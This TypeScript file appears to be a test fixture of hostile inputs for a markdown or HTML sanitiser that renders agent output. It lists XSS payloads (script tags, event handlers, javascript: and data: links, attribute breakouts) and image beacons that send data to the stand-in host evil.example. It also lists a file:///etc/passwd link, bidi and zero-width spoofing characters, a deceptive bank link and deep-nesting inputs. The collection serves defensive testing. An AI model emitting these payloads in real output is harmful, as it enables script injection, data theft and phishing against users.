// Texts by which an agent, or what an agent has read, may try to take over a person's page.

const beacon = 'https://evil.example/beacon';
const run = 'globalThis.pwned=true';

/** By what they try. */
export const hostileTexts: Record<string, string> = {
  'a script element': `<script>${run}</script>done`,
  'an image with a handler': `<img src=x onerror="${run}">`,
  'an svg with a handler': `<svg/onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
  'an element left open': `<iframe srcdoc="<script>parent.pwned=true</script>"`,
  'a form of its own': `<form action="${beacon}"><button autofocus onfocus=${run}>Allow</button></form>`,
  'a style element': `<style>*{display:none}body{background:url(${beacon})}</style>visible`,
  'a style attribute': `<b style="position:fixed;inset:0;background:url(${beacon})">over everything</b>`,
  'a base and a refresh': `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=${beacon}">`,
  'a template that closes ours': `</p></div></main></body><script>${run}</script>`,
  'a javascript link': `[click me](javascript:${run})`,
  'a javascript link with spaces': `[click](\tjava\nscript:${run}) [and](  JaVaScRiPt:${run})`,
  'a javascript link by entities': `[click](&#106;&#97;vascript&colon;${run})`,
  'a data link': `[page](data:text/html,<script>opener.pwned=true</script>)`,
  'a vbscript and a file link': `[a](vbscript:msgbox) [b](file:///etc/passwd) [c](blob:https://evil.example/1)`,
  'an autolink with a script': `<javascript:${run}> and javascript:${run}`,
  'an image beacon': `![pixel](${beacon}?secret=1)`,
  'an image by reference': `![pixel][1]\n\n[1]: ${beacon}?by=reference`,
  'a link that breaks out of its attribute': `[x](https://example.org/"onmouseover="${run}")`,
  'a link with a title that breaks out': `[x](https://example.org "t\\" onclick=\\"${run}")`,
  'a link that shows another address': '[https://bank.example/login](https://evil.example/login)',
  'HTML entities': '&lt;script&gt;globalThis.pwned=true&lt;/script&gt; &#x3c;b&#x3e; &amp;lt;i&amp;gt;',
  'a bidi override': 'Delete \u202Egnp.esrever\u202C then \u2066isolated',
  'bidi marks never closed': '\u202E\u2067\u202Bnever closed',
  'control characters': 'bell\u0007 back\u0008 escape\u001B[31mred\u001B[0m del\u007F c1\u009B2J',
  'characters without a width': 'pay\u200Bpal\u2060.com \uFEFFA\u00ADB \u{E0041}\u{E0042}',
  'a word without an end': 'W'.repeat(1_500),
  'combining marks': `Z${'\u0335\u0310\u0348'.repeat(300)}algo`,
  'nested emphasis': `${'*'.repeat(400)}a${'_'.repeat(400)}${'**a'.repeat(200)}`,
  'nested quotes and lists': `${'> '.repeat(200)}deep\n\n${'- '.repeat(200)}deep`,
  'nested brackets': `${'['.repeat(500)}x${']('.repeat(250)}`,
  'a table of markup': `| <b onclick=${run}>a</b> | b |\n|---|---|\n| <script>${run}</script> | ![x](${beacon}) |`,
  'code that closes its fence': `\`\`\`html"><script>${run}</script>\n</code></pre><script>${run}</script>\n\`\`\``,
  'object keys of JavaScript': '__proto__ constructor toString {{constructor.constructor("globalThis.pwned=true")()}}',
};

/** As an option or a name, which hold less. */
export function cut(text: string, chars: number): string {
  return Array.from(text).slice(0, chars).join('');
}
